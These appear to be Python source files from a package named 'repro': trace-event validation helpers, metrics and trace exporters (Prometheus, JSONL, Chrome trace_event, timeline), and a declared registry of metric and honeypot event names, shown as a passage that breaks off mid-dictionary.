    The trace id names the (category, day) block — ``NO_CRED.d17`` — which
    is exactly the shard-invariant identity the named rng streams use, so
    block events group identically for every worker count.
    """
    t = _TRACER
    if t is not None:
        t.emit(
            "generator.block",
            trace_id=f"{category}.d{day}",
            sim_time=day * 86400.0,
            category=category,
            day=day,
            sessions=sessions,
            **data,
        )


def current_trace_id() -> Optional[str]:
    """The trace id of the enclosing :meth:`Tracer.context`, if any."""
    t = _TRACER
    return t.current_trace_id if t is not None else None


# -- validation ---------------------------------------------------------------


def validate_trace(events: Sequence[Dict[str, Any]]) -> List[str]:
    """Check events against :data:`EVENT_SCHEMA`; returns problem strings.

    Checks per event: required fields and types, optional-field types,
    shard provenance shape, JSON-serialisable payload.  Checks across the
    stream: ``seq`` strictly increasing, and simulation time (``ts``)
    non-decreasing within each ``trace_id`` (per-trace causal order).
    An empty return value means the trace is schema-valid.
    """
    problems: List[str] = []
    last_seq: Optional[int] = None
    last_ts_by_trace: Dict[Optional[str], float] = {}
    for i, event in enumerate(events):
        where = f"event {i}"
        if not isinstance(event, dict):
            problems.append(f"{where}: not an object")
            continue
        for field, types in EVENT_SCHEMA.items():
            value = event.get(field)
            if value is None or isinstance(value, bool) \
                    or not isinstance(value, types):
                problems.append(
                    f"{where}: field {field!r} missing or not "
                    f"{'/'.join(t.__name__ for t in types)}"
                )
        for field, types in EVENT_OPTIONAL.items():
            if field not in event:
                continue
            value = event[field]
            if field == "trace_id" and value is None:
                continue
            if isinstance(value, bool) or not isinstance(value, types):
                problems.append(
                    f"{where}: field {field!r} not "
                    f"{'/'.join(t.__name__ for t in types)}"
                )
        shard = event.get("shard")
        if isinstance(shard, dict):
            for field, types in SHARD_SCHEMA.items():
                value = shard.get(field)
                if value is None or isinstance(value, bool) \
                        or not isinstance(value, types):
                    problems.append(
                        f"{where}: shard field {field!r} missing or not "
                        f"{'/'.join(t.__name__ for t in types)}"
                    )
        if "data" in event and isinstance(event["data"], dict):
            try:
                json.dumps(event["data"])
            except (TypeError, ValueError):
                problems.append(f"{where}: data is not JSON-serialisable")
        seq = event.get("seq")
        if isinstance(seq, int) and not isinstance(seq, bool):
            if last_seq is not None and seq <= last_seq:
                problems.append(
                    f"{where}: seq {seq} not greater than previous {last_seq}"
                )
            last_seq = seq
        ts = event.get("ts")
        if isinstance(ts, (int, float)) and not isinstance(ts, bool):
            trace_id = event.get("trace_id")
            previous = last_ts_by_trace.get(trace_id)
            if previous is not None and ts < previous:
                problems.append(
                    f"{where}: ts {ts} moves backwards within trace "
                    f"{trace_id!r} (previous {previous})"
                )
            last_ts_by_trace[trace_id] = float(ts)
    return problems


def group_by_trace(
    events: Iterable[Dict[str, Any]],
) -> Dict[Optional[str], List[Dict[str, Any]]]:
    """Events grouped by ``trace_id``, each group in stream order."""
    groups: Dict[Optional[str], List[Dict[str, Any]]] = {}
    for event in events:
        groups.setdefault(event.get("trace_id"), []).append(event)
    return groups


def strip_volatile(event: Dict[str, Any]) -> Dict[str, Any]:
    """An event minus run-variant fields (``seq``/``wall``/``shard``).

    What remains — kind, trace_id, sim time, payload — is the part of the
    trace that must be identical for every worker count; the invariance
    tests compare per-trace sequences of this form.
    """
    return {k: v for k, v in event.items()
            if k not in ("seq", "wall", "shard")}


#: Event-kind prefixes that are volatile *as whole events*: physical
#: telemetry (worker heartbeats, stale-worker episodes) whose presence
#: and count legitimately depend on the backend, worker count and wall
#: clock.  The field-level contract (:func:`strip_volatile`) does not
#: cover them — no subset of a heartbeat's fields is run-invariant — so
#: invariance comparisons drop these events entirely, the event-stream
#: analogue of the worker-count-variant ``sched.*`` counters excluded
#: from the metrics invariance contract.
VOLATILE_KIND_PREFIXES: tuple = ("sched.heartbeat.",)


def is_volatile_kind(kind: str) -> bool:
    """True when events of ``kind`` are declared run-variant wholesale."""
    return kind.startswith(VOLATILE_KIND_PREFIXES)


def strip_volatile_events(
    events: Iterable[Dict[str, Any]],
) -> List[Dict[str, Any]]:
    """Events minus those of a volatile kind (heartbeats and kin)."""
    return [e for e in events
            if not is_volatile_kind(str(e.get("kind", "")))]
