"""Pipeline observability: metrics registry, stage spans, exporters.

Zero-dependency instrumentation threaded through the hot paths of the
pipeline — trace generation (serial and sharded), the discrete-event
engine, honeypot sessions, the analysis context cache and the report
orchestrator.  Collection is always on (the instruments are dict
increments and a pair of clock reads per stage, well under the 3%%
overhead budget); ``python -m repro <cmd> --metrics [PATH]`` or the
``REPRO_METRICS`` environment variable surface the recorded registry as a
stderr summary tree plus an optional JSON dump.

Workers in the sharded generator record into their own registry and ship
its dict form back with each shard; the parent merges them in shard
order, so counters from a ``--workers N`` run sum to the serial totals.

The flight recorder (:mod:`repro.obs.trace`) is the registry's
event-stream counterpart: ring-buffered structured trace events with
sim-time + wall-time stamps and per-session/per-block trace ids, off by
default (a single ``None`` check on the hot paths), folded across workers
in shard order exactly like ``Metrics.merge``.  ``repro.obs.trajectory``
persists a benchmark record per CI run.
"""

from repro.obs.export import (
    chrome_trace_events,
    dump_chrome_trace,
    dump_json,
    load_json,
    read_trace_jsonl,
    render,
    render_prometheus,
    render_timeline,
    write_trace_jsonl,
)
from repro.obs.metrics import (
    Histogram,
    Metrics,
    Stopwatch,
    get_metrics,
    inc,
    reset_metrics,
    set_metrics,
    stopwatch,
    use_metrics,
)
from repro.obs.trace import (
    Tracer,
    get_tracer,
    set_tracer,
    use_tracer,
    validate_trace,
)

__all__ = [
    "Histogram",
    "Metrics",
    "Stopwatch",
    "Tracer",
    "chrome_trace_events",
    "dump_chrome_trace",
    "dump_json",
    "get_metrics",
    "get_tracer",
    "inc",
    "load_json",
    "read_trace_jsonl",
    "render",
    "render_prometheus",
    "render_timeline",
    "reset_metrics",
    "set_metrics",
    "set_tracer",
    "stopwatch",
    "use_metrics",
    "use_tracer",
    "validate_trace",
    "write_trace_jsonl",
]
