"""Pipeline observability: metrics registry, stage spans, exporters.

Zero-dependency instrumentation threaded through the hot paths of the
pipeline — trace generation (serial and sharded), the discrete-event
engine, honeypot sessions, the analysis context cache and the report
orchestrator.  Collection is always on (the instruments are dict
increments and a pair of clock reads per stage, well under the 3%%
overhead budget); ``python -m repro <cmd> --metrics [PATH]`` or the
``REPRO_METRICS`` environment variable surface the recorded registry as a
stderr summary tree plus an optional JSON dump.

Workers in the sharded generator record into their own registry and ship
its dict form back with each shard; the parent merges them in shard
order, so counters from a ``--workers N`` run sum to the serial totals.
"""

from repro.obs.export import dump_json, load_json, render
from repro.obs.metrics import (
    Histogram,
    Metrics,
    get_metrics,
    inc,
    reset_metrics,
    set_metrics,
    use_metrics,
)

__all__ = [
    "Histogram",
    "Metrics",
    "dump_json",
    "get_metrics",
    "inc",
    "load_json",
    "render",
    "reset_metrics",
    "set_metrics",
    "use_metrics",
]
