"""Pipeline observability: metrics registry, stage spans, exporters.

Zero-dependency instrumentation threaded through the hot paths of the
pipeline — trace generation (serial and sharded), the discrete-event
engine, honeypot sessions, the analysis context cache and the report
orchestrator.  Collection is always on (the instruments are dict
increments and a pair of clock reads per stage, well under the 3%%
overhead budget); ``python -m repro <cmd> --metrics [PATH]`` or the
``REPRO_METRICS`` environment variable surface the recorded registry as a
stderr summary tree plus an optional JSON dump.

Workers in the sharded generator record into their own registry and ship
its dict form back with each shard; the parent merges them in shard
order, so counters from a ``--workers N`` run sum to the serial totals.

The flight recorder (:mod:`repro.obs.trace`) is the registry's
event-stream counterpart: ring-buffered structured trace events with
sim-time + wall-time stamps and per-session/per-block trace ids, off by
default (a single ``None`` check on the hot paths), folded across workers
in shard order exactly like ``Metrics.merge``.  ``repro.obs.trajectory``
persists a benchmark record per CI run.
"""

from repro.obs.export import (
    chrome_trace_events,
    dump_chrome_trace,
    dump_json,
    load_json,
    read_trace_jsonl,
    render,
    render_prometheus,
    render_timeline,
    write_trace_jsonl,
)
from repro.obs.ledger import (
    RunLedger,
    get_ledger,
    read_ledger_jsonl,
    set_ledger,
    sha256_file,
    strip_volatile_records,
    use_ledger,
    validate_ledger,
)
from repro.obs.metrics import (
    Histogram,
    Metrics,
    Stopwatch,
    get_metrics,
    inc,
    reset_metrics,
    set_metrics,
    stopwatch,
    use_metrics,
)
from repro.obs.resources import (
    ResourceSampler,
    current_rss_kb,
    peak_rss_kb,
    worker_heartbeat,
)
from repro.obs.trace import (
    Tracer,
    get_tracer,
    is_volatile_kind,
    set_tracer,
    strip_volatile_events,
    use_tracer,
    validate_trace,
)

__all__ = [
    "Histogram",
    "Metrics",
    "ResourceSampler",
    "RunLedger",
    "Stopwatch",
    "Tracer",
    "chrome_trace_events",
    "current_rss_kb",
    "dump_chrome_trace",
    "dump_json",
    "get_ledger",
    "get_metrics",
    "get_tracer",
    "inc",
    "is_volatile_kind",
    "load_json",
    "peak_rss_kb",
    "read_ledger_jsonl",
    "read_trace_jsonl",
    "render",
    "render_prometheus",
    "render_timeline",
    "reset_metrics",
    "set_ledger",
    "set_metrics",
    "set_tracer",
    "sha256_file",
    "stopwatch",
    "strip_volatile_events",
    "strip_volatile_records",
    "use_ledger",
    "use_metrics",
    "use_tracer",
    "validate_ledger",
    "validate_trace",
    "worker_heartbeat",
]
