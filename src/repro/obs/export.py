"""Exporters: metrics (stderr tree, JSON, Prometheus) and traces
(JSONL, timeline waterfall, Chrome ``trace_event``).

``render`` turns a registry into the line-text report printed by
``python -m repro <cmd> --metrics``; ``dump_json`` writes the registry's
dict form to a file for machine consumption (benchmarks, CI artefacts);
``render_prometheus`` emits the text exposition format a scraper expects.
The trace exporters serialise flight-recorder event lists: one JSON object
per line (``write_trace_jsonl`` / ``read_trace_jsonl``), a per-trace span
waterfall for stderr (``render_timeline``), and the Chrome ``trace_event``
JSON that ``about://tracing`` / Perfetto load (``dump_chrome_trace``).
"""

from __future__ import annotations

import json
from typing import Any, Dict, Iterable, List, Optional, Tuple

from repro.obs.metrics import Metrics


def _format_seconds(seconds: float) -> str:
    if seconds >= 1.0:
        return f"{seconds:7.2f}s "
    return f"{seconds * 1000:7.1f}ms"


def _span_tree(spans: Dict[str, Dict[str, float]]):
    """(nodes, children) with implicit parents synthesised.

    A merged registry can contain a path like ``generate/emit/shard/bg_cmd``
    without its ``shard`` ancestor ever having been entered (worker spans
    re-rooted under the parent's tree); such implicit nodes aggregate their
    children's totals so the rendered tree still reads top-down.
    """
    nodes: Dict[str, Dict[str, float]] = {
        path: dict(cell) for path, cell in spans.items()
    }
    children: Dict[str, List[str]] = {}
    for path in sorted(nodes):
        walk = path
        while "/" in walk:
            parent = walk.rsplit("/", 1)[0]
            siblings = children.setdefault(parent, [])
            if walk not in siblings:
                siblings.append(walk)
            if parent not in nodes:
                nodes[parent] = {"count": 0, "wall": 0.0, "cpu": 0.0}
            walk = parent
        children.setdefault(path, [])
    # Implicit nodes (count 0) show the sum of their children, deepest first.
    for path in sorted(nodes, key=lambda p: -p.count("/")):
        cell = nodes[path]
        if cell["count"] == 0 and children.get(path):
            for child in children[path]:
                cell["wall"] += nodes[child]["wall"]
                cell["cpu"] += nodes[child]["cpu"]
    roots = [path for path in nodes if "/" not in path]
    return nodes, children, roots


def render_spans(metrics: Metrics) -> List[str]:
    nodes, children, roots = _span_tree(metrics.spans)
    lines: List[str] = []

    def emit(path: str, depth: int) -> None:
        cell = nodes[path]
        name = path.rsplit("/", 1)[-1]
        label = "  " * depth + name
        count = int(cell["count"])
        lines.append(
            f"{label:<38} wall {_format_seconds(cell['wall'])} "
            f"cpu {_format_seconds(cell['cpu'])}  n={count if count else '-'}"
        )
        for child in sorted(children.get(path, []),
                            key=lambda p: -nodes[p]["wall"]):
            emit(child, depth + 1)

    for root in sorted(roots, key=lambda p: -nodes[p]["wall"]):
        emit(root, 0)
    return lines


def render(metrics: Metrics, title: str = "metrics") -> str:
    """The full line-text report: span tree, counters, gauges, histograms."""
    lines = [f"== {title}: stage timings =="]
    span_lines = render_spans(metrics)
    lines.extend(span_lines if span_lines else ["(no spans recorded)"])
    if metrics.counters:
        lines.append(f"== {title}: counters ==")
        for name in sorted(metrics.counters):
            value = metrics.counters[name]
            shown = int(value) if float(value).is_integer() else value
            lines.append(f"{name:<42} {shown:>14,}")
    if metrics.gauges:
        lines.append(f"== {title}: gauges ==")
        for name in sorted(metrics.gauges):
            lines.append(f"{name:<42} {metrics.gauges[name]:>14,.6g}")
    if metrics.histograms:
        lines.append(f"== {title}: histograms ==")
        for name in sorted(metrics.histograms):
            h = metrics.histograms[name]
            lines.append(
                f"{name:<30} n={h.count:<7} mean={h.mean:.4g} "
                f"p50={h.percentile(50):.4g} p90={h.percentile(90):.4g} "
                f"max={h.max:.4g}"
            )
    return "\n".join(lines)


def dump_json(metrics: Metrics, path: str) -> None:
    """Write the registry's dict form as indented JSON."""
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(metrics.to_dict(), fh, indent=2, sort_keys=True)
        fh.write("\n")


def load_json(path: str) -> Metrics:
    """Read a registry previously written by :func:`dump_json`."""
    with open(path, "r", encoding="utf-8") as fh:
        return Metrics.from_dict(json.load(fh))


# -- Prometheus text format ----------------------------------------------------


def _prom_name(name: str) -> str:
    """A repro instrument name as a Prometheus metric name."""
    out = []
    for ch in name:
        out.append(ch if ch.isalnum() or ch == "_" else "_")
    sanitised = "".join(out)
    if sanitised and sanitised[0].isdigit():
        sanitised = "_" + sanitised
    return f"repro_{sanitised}"


def _prom_names(keys: List[Tuple[str, str]]) -> Dict[Tuple[str, str], str]:
    """(family, name) -> exposition name, with collisions disambiguated.

    Sanitising is lossy — ``sched.task-run`` and ``sched.task_run`` both
    become ``repro_sched_task_run`` — and Prometheus rejects (or worse,
    silently merges) duplicate series.  Every member of a colliding group
    gets a deterministic 6-hex suffix derived from its own raw identity,
    so the mapping is stable across runs and independent of which other
    names happen to be present in the group.
    """
    import hashlib

    mapped = {
        (family, name): _prom_name(name if family != "span"
                                   else f"span_{name}")
        for family, name in keys
    }
    groups: Dict[str, List[Tuple[str, str]]] = {}
    for key, prom in mapped.items():
        groups.setdefault(prom, []).append(key)
    for prom, members in groups.items():
        if len(members) == 1:
            continue
        for family, name in members:
            digest = hashlib.sha256(
                f"{family}:{name}".encode("utf-8")
            ).hexdigest()[:6]
            mapped[(family, name)] = f"{prom}_{digest}"
    return mapped


def _span_help(path: str) -> str:
    """Registry help for a slash-joined span path.

    Span declarations name the literal a call site passes (a leaf like
    ``merge`` or a family like ``shard/*``), while merged paths are
    nested (``generate/emit/shard/bg_cmd``); match progressively longer
    trailing segments so both forms resolve.
    """
    from repro.obs.names import describe

    parts = path.split("/")
    for start in range(len(parts) - 1, -1, -1):
        text = describe("span", "/".join(parts[start:]))
        if text:
            return text
    return ""


def render_prometheus(metrics: Metrics) -> str:
    """The registry in Prometheus text exposition format.

    Counters and gauges map directly; histograms surface as summaries
    (``_count`` / ``_sum`` plus p50/p90/p99 ``quantile`` labels), which is
    what lets ``repro monitor`` output be scraped without a client library.
    Distinct registry names that sanitise to the same exposition name are
    disambiguated (see :func:`_prom_names`); an empty histogram emits
    ``NaN`` quantiles — the Prometheus convention for a summary with no
    observations — rather than a misleading 0.  ``# HELP`` text comes
    from the declared-name registry (:mod:`repro.obs.names`).
    """
    from repro.obs.names import describe

    keys: List[Tuple[str, str]] = (
        [("counter", n) for n in sorted(metrics.counters)]
        + [("gauge", n) for n in sorted(metrics.gauges)]
        + [("histogram", n) for n in sorted(metrics.histograms)]
        + [("span", p) for p in sorted(metrics.spans)]
    )
    names = _prom_names(keys)
    lines: List[str] = []

    def header(family: str, name: str, prom: str, prom_type: str) -> None:
        help_text = (_span_help(name) if family == "span"
                     else describe(family, name))
        if help_text:
            lines.append(f"# HELP {prom} {help_text}")
        lines.append(f"# TYPE {prom} {prom_type}")

    for name in sorted(metrics.counters):
        prom = names[("counter", name)]
        header("counter", name, prom, "counter")
        lines.append(f"{prom} {float(metrics.counters[name]):g}")
    for name in sorted(metrics.gauges):
        prom = names[("gauge", name)]
        header("gauge", name, prom, "gauge")
        lines.append(f"{prom} {float(metrics.gauges[name]):g}")
    for name in sorted(metrics.histograms):
        hist = metrics.histograms[name]
        prom = names[("histogram", name)]
        header("histogram", name, prom, "summary")
        for q in (0.5, 0.9, 0.99):
            value = (f"{hist.percentile(q * 100):g}" if hist.count
                     else "NaN")
            lines.append(f'{prom}{{quantile="{q:g}"}} {value}')
        lines.append(f"{prom}_sum {hist.total:g}")
        lines.append(f"{prom}_count {hist.count}")
    for path in sorted(metrics.spans):
        cell = metrics.spans[path]
        prom = names[("span", path)]
        header("span", path, f"{prom}_seconds", "counter")
        lines.append(f"{prom}_seconds {cell['wall']:g}")
        lines.append(f"{prom}_count {int(cell['count'])}")
    return "\n".join(lines) + "\n"


# -- trace exporters -----------------------------------------------------------


def write_trace_jsonl(events: Iterable[Dict[str, Any]], path: str) -> int:
    """Write flight-recorder events as JSON lines; returns the count."""
    count = 0
    with open(path, "w", encoding="utf-8") as fh:
        for event in events:
            fh.write(json.dumps(event, sort_keys=True) + "\n")
            count += 1
    return count


def read_trace_jsonl(path: str) -> List[Dict[str, Any]]:
    """Read a JSONL trace written by a tracer sink or write_trace_jsonl."""
    events: List[Dict[str, Any]] = []
    with open(path, "r", encoding="utf-8") as fh:
        for line in fh:
            line = line.strip()
            if line:
                events.append(json.loads(line))
    return events


def render_timeline(
    events: List[Dict[str, Any]],
    width: int = 64,
    max_traces: int = 40,
) -> str:
    """A per-trace span waterfall over simulation time, for stderr.

    Each trace id gets one row: a bar spanning its first..last ``ts``
    positioned on a shared axis, annotated with the event count.  Traces
    print in first-seen order (the waterfall); with more than
    ``max_traces`` the busiest are kept and the tail summarised.
    """
    spans: Dict[str, List[float]] = {}
    order: List[str] = []
    stamped = 0
    for event in events:
        ts = event.get("ts")
        if ts is None:
            continue
        stamped += 1
        trace_id = event.get("trace_id") or "(no trace)"
        cell = spans.get(trace_id)
        if cell is None:
            spans[trace_id] = [ts, ts, 1]
            order.append(trace_id)
        else:
            cell[0] = min(cell[0], ts)
            cell[1] = max(cell[1], ts)
            cell[2] += 1
    if not spans:
        return "(no sim-time-stamped events to draw)"
    t0 = min(cell[0] for cell in spans.values())
    t1 = max(cell[1] for cell in spans.values())
    span = max(t1 - t0, 1e-9)
    shown = order
    dropped = 0
    if len(order) > max_traces:
        busiest = set(sorted(order, key=lambda t: -spans[t][2])[:max_traces])
        shown = [t for t in order if t in busiest]
        dropped = len(order) - len(shown)
    label_w = min(max(len(t) for t in shown), 28)
    lines = [
        f"== trace timeline: {len(order)} traces, {stamped} stamped events, "
        f"t={t0:.1f}s..{t1:.1f}s =="
    ]
    for trace_id in shown:
        lo, hi, n = spans[trace_id]
        a = int((lo - t0) / span * (width - 1))
        b = max(int((hi - t0) / span * (width - 1)), a)
        bar = " " * a + "#" * (b - a + 1)
        label = (trace_id[: label_w - 1] + "…"
                 if len(trace_id) > label_w else trace_id)
        lines.append(f"{label:<{label_w}} |{bar:<{width}}| n={int(n)}")
    if dropped:
        lines.append(f"... and {dropped} quieter traces")
    return "\n".join(lines)


def chrome_trace_events(events: List[Dict[str, Any]]) -> List[Dict[str, Any]]:
    """Flight-recorder events in Chrome ``trace_event`` form.

    Each trace id becomes one "thread": a complete ("X") slice spanning
    its first..last sim-time stamp, plus instant ("i") marks per event.
    Shard provenance maps to the pid so about://tracing groups worker
    output visually.  Sim seconds map to trace microseconds.
    """
    by_trace: Dict[str, List[Dict[str, Any]]] = {}
    order: List[str] = []
    for event in events:
        if event.get("ts") is None:
            continue
        trace_id = event.get("trace_id") or "(no trace)"
        if trace_id not in by_trace:
            by_trace[trace_id] = []
            order.append(trace_id)
        by_trace[trace_id].append(event)
    out: List[Dict[str, Any]] = []
    for tid_index, trace_id in enumerate(order):
        group = by_trace[trace_id]
        first, last = group[0], group[-1]
        shard = first.get("shard") or {}
        pid = int(shard.get("index", 0))
        t0 = min(e["ts"] for e in group)
        t1 = max(e["ts"] for e in group)
        out.append({
            "name": trace_id,
            "cat": "trace",
            "ph": "X",
            "pid": pid,
            "tid": tid_index,
            "ts": t0 * 1e6,
            "dur": max((t1 - t0) * 1e6, 1.0),
            "args": {"events": len(group),
                     "shard": shard.get("key", "")},
        })
        for event in group:
            out.append({
                "name": event.get("kind", "?"),
                "cat": "event",
                "ph": "i",
                "s": "t",
                "pid": pid,
                "tid": tid_index,
                "ts": event["ts"] * 1e6,
                "args": event.get("data", {}),
            })
    return out


def dump_chrome_trace(events: List[Dict[str, Any]], path: str) -> None:
    """Write the Chrome ``trace_event`` JSON for about://tracing."""
    with open(path, "w", encoding="utf-8") as fh:
        json.dump({"traceEvents": chrome_trace_events(events),
                   "displayTimeUnit": "ms"}, fh)
        fh.write("\n")
