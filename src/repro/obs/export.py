"""Exporters: the stderr summary tree and the JSON dump.

``render`` turns a registry into the line-text report printed by
``python -m repro <cmd> --metrics``; ``dump_json`` writes the registry's
dict form to a file for machine consumption (benchmarks, CI artefacts).
"""

from __future__ import annotations

import json
from typing import Dict, List, Tuple

from repro.obs.metrics import Metrics


def _format_seconds(seconds: float) -> str:
    if seconds >= 1.0:
        return f"{seconds:7.2f}s "
    return f"{seconds * 1000:7.1f}ms"


def _span_tree(spans: Dict[str, Dict[str, float]]):
    """(nodes, children) with implicit parents synthesised.

    A merged registry can contain a path like ``generate/emit/shard/bg_cmd``
    without its ``shard`` ancestor ever having been entered (worker spans
    re-rooted under the parent's tree); such implicit nodes aggregate their
    children's totals so the rendered tree still reads top-down.
    """
    nodes: Dict[str, Dict[str, float]] = {
        path: dict(cell) for path, cell in spans.items()
    }
    children: Dict[str, List[str]] = {}
    for path in sorted(nodes):
        walk = path
        while "/" in walk:
            parent = walk.rsplit("/", 1)[0]
            siblings = children.setdefault(parent, [])
            if walk not in siblings:
                siblings.append(walk)
            if parent not in nodes:
                nodes[parent] = {"count": 0, "wall": 0.0, "cpu": 0.0}
            walk = parent
        children.setdefault(path, [])
    # Implicit nodes (count 0) show the sum of their children, deepest first.
    for path in sorted(nodes, key=lambda p: -p.count("/")):
        cell = nodes[path]
        if cell["count"] == 0 and children.get(path):
            for child in children[path]:
                cell["wall"] += nodes[child]["wall"]
                cell["cpu"] += nodes[child]["cpu"]
    roots = [path for path in nodes if "/" not in path]
    return nodes, children, roots


def render_spans(metrics: Metrics) -> List[str]:
    nodes, children, roots = _span_tree(metrics.spans)
    lines: List[str] = []

    def emit(path: str, depth: int) -> None:
        cell = nodes[path]
        name = path.rsplit("/", 1)[-1]
        label = "  " * depth + name
        count = int(cell["count"])
        lines.append(
            f"{label:<38} wall {_format_seconds(cell['wall'])} "
            f"cpu {_format_seconds(cell['cpu'])}  n={count if count else '-'}"
        )
        for child in sorted(children.get(path, []),
                            key=lambda p: -nodes[p]["wall"]):
            emit(child, depth + 1)

    for root in sorted(roots, key=lambda p: -nodes[p]["wall"]):
        emit(root, 0)
    return lines


def render(metrics: Metrics, title: str = "metrics") -> str:
    """The full line-text report: span tree, counters, gauges, histograms."""
    lines = [f"== {title}: stage timings =="]
    span_lines = render_spans(metrics)
    lines.extend(span_lines if span_lines else ["(no spans recorded)"])
    if metrics.counters:
        lines.append(f"== {title}: counters ==")
        for name in sorted(metrics.counters):
            value = metrics.counters[name]
            shown = int(value) if float(value).is_integer() else value
            lines.append(f"{name:<42} {shown:>14,}")
    if metrics.gauges:
        lines.append(f"== {title}: gauges ==")
        for name in sorted(metrics.gauges):
            lines.append(f"{name:<42} {metrics.gauges[name]:>14,.6g}")
    if metrics.histograms:
        lines.append(f"== {title}: histograms ==")
        for name in sorted(metrics.histograms):
            h = metrics.histograms[name]
            lines.append(
                f"{name:<30} n={h.count:<7} mean={h.mean:.4g} "
                f"p50={h.percentile(50):.4g} p90={h.percentile(90):.4g} "
                f"max={h.max:.4g}"
            )
    return "\n".join(lines)


def dump_json(metrics: Metrics, path: str) -> None:
    """Write the registry's dict form as indented JSON."""
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(metrics.to_dict(), fh, indent=2, sort_keys=True)
        fh.write("\n")


def load_json(path: str) -> Metrics:
    """Read a registry previously written by :func:`dump_json`."""
    with open(path, "r", encoding="utf-8") as fh:
        return Metrics.from_dict(json.load(fh))
