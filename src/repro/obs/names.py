"""The declared instrument-name registry.

Every metric counter, gauge, histogram, span path and trace-event kind the
pipeline emits is declared here, in one place.  ``Metrics`` itself is
schema-free (any string names a counter), which is what makes ``merge``
associative — but it also means a typo at one call site silently forks a
metric into two series that ``Metrics.merge`` will happily fold apart.
The ``registry-names`` lint rule (:mod:`repro.lint`) closes that hole
statically: a literal name at an ``inc`` / ``observe`` / ``gauge_set`` /
``span`` / trace ``emit`` call site must match a declaration below, where
a trailing ``.*`` (or embedded ``*``) declares a dynamic family whose
suffix is computed at runtime (``farm.alerts.<kind>``).

Adding an instrument is therefore a two-line change: the call site and
the declaration.  The declaration doubles as documentation — this module
is the one answer to "what can appear in a metrics dump?".
"""

from __future__ import annotations

from fnmatch import fnmatchcase
from typing import Tuple

#: Monotonic counters (``Metrics.inc`` / ``repro.obs.inc``).
COUNTERS: Tuple[str, ...] = (
    "rng.streams_created",
    "rng.draws",
    "engine.events_scheduled",
    "engine.events_dispatched",
    "engine.events_cancelled",
    "honeypot.sessions_accepted",
    "honeypot.sessions_refused",
    "honeypot.auth_attempts",
    "honeypot.hashes_recorded",
    "honeypot.sessions.*",   # per session category
    "honeypot.timeouts.*",   # per timeout reason
    "store.sessions_appended",
    "store.blocks_appended",
    "store.adopts",
    "store.adopts_fastpath",
    "store.sessions_adopted",
    "store.freezes",
    "store.npz_saves",
    "store.npz_saved_sessions",
    "store.npz_loads",
    "store.npz_loaded_sessions",
    "cache.hits",
    "cache.misses",
    "cache.stores",
    "cache.corrupt_entries",
    "cache.loaded_sessions",
    "generator.sessions.*",       # per category / "singletons"
    "generator.days.*",           # per category
    "generator.spike_sessions.*",  # per category
    "generator.campaigns_realized",
    "generator.campaign_days",
    "generator.campaign_sessions",
    "shards.emitted",
    "shards.sessions.*",  # per shard kind
    "context.*",          # per-property hit/miss + aggregate hits/misses
    "farm.alerts.*",      # per alert kind
    # Scheduler accounting (repro.sched).  Physical-scheduling counters:
    # retries, stragglers and pool resizes legitimately vary with the
    # backend and worker count — only task totals are invariant.
    "sched.tasks_submitted",
    "sched.tasks_completed",
    "sched.tasks_retried",
    "sched.duplicates_dropped",
    "sched.stragglers_requeued",
    "sched.workers_grown",
    "sched.workers_shrunk",
    # Streaming sketch analytics (repro.analytics).
    "sketch.sessions_observed",
    "sketch.events_consumed",
    "sketch.store_sessions_ingested",
    "sketch.merges",
    # Block session engine (repro.workload.blocks).
    "emit.block.buffered_blocks",
    "emit.block.buffered_rows",
    "emit.block.flushes",
    "emit.block.rows",
    # Worker heartbeats (repro.sched + repro.obs.resources).  Heartbeat
    # counts are physical liveness — they vary with backend and worker
    # count by construction, like the other sched.* physical counters.
    "sched.heartbeat.*",
    # Run-ledger accounting (repro.obs.ledger).
    "ledger.*",
)

#: Gauges (``gauge_set`` — last value; ``gauge_max`` — high-water mark).
GAUGES: Tuple[str, ...] = (
    "engine.heap_depth_max",
    "shards.count",
    "shards.workers",
    "shards.queue_wait_seconds",
    "store.npz_save_bytes_per_second",
    "store.npz_load_bytes_per_second",
    "sched.arrival_rate",
    "sched.trace_makespan_virtual",
    "sched.workers_peak",
    "sched.backlog_peak",
    "sched.heartbeat.rss_kb_peak",
    "sketch.unique.*",  # streaming cardinality estimates (clients, hashes)
)

#: Histograms (``observe`` / ``histogram`` / ``timer``).
HISTOGRAMS: Tuple[str, ...] = (
    "store.adopt_seconds",
    "store.freeze_seconds",
    "store.npz_save_seconds",
    "store.npz_load_seconds",
    "shards.sessions_per_shard",
    "farm.sessions_per_interval",
    "farm.mix.*",  # per session category share
    "sched.task_queue_seconds",
    "sched.task_run_seconds",
    "sched.task_merge_seconds",
    # Per-task resource telemetry (repro.obs.resources samplers).
    "resource.*",
)

#: Span path components as written at ``Metrics.span`` call sites.  Nested
#: spans build slash-joined paths at runtime ("generate/emit/shard/bg_cmd");
#: what is declared here is the literal each call site passes.
SPANS: Tuple[str, ...] = (
    "generate",
    "plan",
    "emit",
    "merge",
    "day_buckets",
    "campaigns",
    "singletons",
    "background",
    "freeze",
    "shard/*",  # per shard kind (worker-side)
    "sched/trace",
    "cache/load",
    "cache/save",
    "store/save_npz",
    "store/load_npz",
    "store/merge",
    "validate",
    "report",
    "intermediates",
    "tables_4_5_6",
    "sketch/ingest",
    "emit.block.flush",
)

#: Flight-recorder event kinds (``repro.obs.trace.emit`` and
#: :class:`Tracer`.emit).  The honeypot session kinds mirror
#: :class:`repro.honeypot.events.EventType` values one-for-one — a unit
#: test keeps the two in sync.
TRACE_KINDS: Tuple[str, ...] = (
    "generator.block",
    "generate.merged",
    "shard.emit",
    "sched.trace.built",
    "sched.task.submit",
    "sched.task.done",
    "sched.task.retry",
    "sched.heartbeat.*",  # worker liveness (declared volatile, see obs.trace)
    "engine.dispatch",
    "engine.cancel",
    "collector.summary",
    "collector.merge",
    "honeypot.refused",
    "honeypot.session.connect",
    "honeypot.client.version",
    "honeypot.login.success",
    "honeypot.login.failed",
    "honeypot.command.input",
    "honeypot.command.failed",
    "honeypot.session.file_download",
    "honeypot.session.file_upload",
    "honeypot.session.file_created",
    "honeypot.session.file_modified",
    "honeypot.session.closed",
)

#: Instrument family -> declared name tuple (the lint rule's lookup table).
FAMILIES = {
    "counter": COUNTERS,
    "gauge": GAUGES,
    "histogram": HISTOGRAMS,
    "span": SPANS,
    "trace": TRACE_KINDS,
}

#: One-line help text per declared pattern, keyed by family then pattern.
#: This is what ``render_prometheus`` emits as ``# HELP`` lines, and a
#: registry-sync test keeps it total: every declaration above must carry
#: a description here (and vice versa), so documentation cannot drift.
DESCRIPTIONS = {
    "counter": {
